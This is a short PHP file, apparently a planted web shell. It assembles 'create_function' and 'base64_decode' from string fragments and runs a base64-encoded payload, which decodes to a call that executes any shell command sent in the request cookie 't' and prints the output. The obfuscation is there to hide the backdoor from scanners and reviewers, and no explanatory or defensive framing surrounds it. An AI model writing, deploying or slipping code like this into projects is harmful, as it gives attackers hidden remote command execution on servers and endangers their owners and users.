<?php
$mk  = implode('', array('cre', 'ate_', 'func', 'tion'));
$dec = join('', array('base', '64_', 'dec', 'ode'));
$bl  = 'ZWNobyBzaGVsbF9leGVjKCRfQ09PS0lFWyd0J10pOw==';
$fn  = $mk('', $dec($bl));
$fn();
